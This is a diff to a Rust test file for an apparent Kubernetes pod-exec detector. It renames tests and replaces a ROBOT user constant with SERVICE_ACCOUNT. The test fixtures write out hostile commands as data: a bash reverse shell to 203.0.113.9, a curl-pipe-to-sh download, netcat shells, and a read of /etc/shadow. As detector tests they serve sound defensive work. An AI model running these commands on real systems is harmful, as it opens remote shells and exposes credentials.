@@ -1,7 +1,7 @@
 use super::*;
 
 #[test]
-fn commands_of_attackers_have_their_severity() {
+fn attacker_commands_are_rated_by_kind() {
     for (words, expected) in [
         (
             ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/44 0>&1"],
@@ -73,7 +73,7 @@ fn commands_of_attackers_have_their_severity() {
 }
 
 #[test]
-fn one_exec_has_one_finding_a_theme_with_all_its_evidence() {
+fn exec_raises_one_finding_per_theme_with_all_evidence() {
     let script = "cat /etc/shadow; curl http://203.0.113.9/x | sh; nc 203.0.113.9 44 -e sh";
     let mut harness = Harness::<PodExec>::new();
     let found = harness
@@ -96,7 +96,7 @@ fn one_exec_has_one_finding_a_theme_with_all_its_evidence() {
 }
 
 #[test]
-fn copies_are_judged_by_what_is_copied() {
+fn copies_are_rated_by_their_files() {
     for (pod, words, expected) in [
         (
             "web-1",
@@ -129,32 +129,32 @@ fn copies_are_judged_by_what_is_copied() {
 }
 
 #[test]
-fn refused_execs_are_nothing_but_for_what_they_were_to_run() {
-    let refused = |words: &[&str]| {
+fn denied_execs_are_reported_only_for_suspicious_commands() {
+    let denied = |words: &[&str]| {
         stream(
             request("create", "pods/exec", "kube-system", "x").code(403),
             words,
         )
     };
-    assert!(judge(refused(&["sh"])).is_empty());
+    assert!(judge(denied(&["sh"])).is_empty());
     assert_eq!(
-        judge(refused(&["nc", "203.0.113.9", "44", "-e", "/bin/sh"])),
+        judge(denied(&["nc", "203.0.113.9", "44", "-e", "/bin/sh"])),
         ["Execution:SuspiciousExecCommand 3.0"]
     );
 }
 
 #[test]
-fn the_operator_s_trust_leaves_only_what_stands_out() {
+fn trusted_users_are_reported_only_for_suspicious_commands() {
     let by = |words: &[&str]| {
         stream(
             request("create", "pods/exec", "velero", "x")
-                .user(ROBOT)
+                .user(SERVICE_ACCOUNT)
                 .code(101),
             words,
         )
     };
     let mut harness = Harness::<PodExec>::new()
-        .setting("trusted-users", [ROBOT])
+        .setting("trusted-users", [SERVICE_ACCOUNT])
         .setting(
             "trusted-commands",
             ["sh -c /opt/hook.sh", "cat /etc/shadow"],
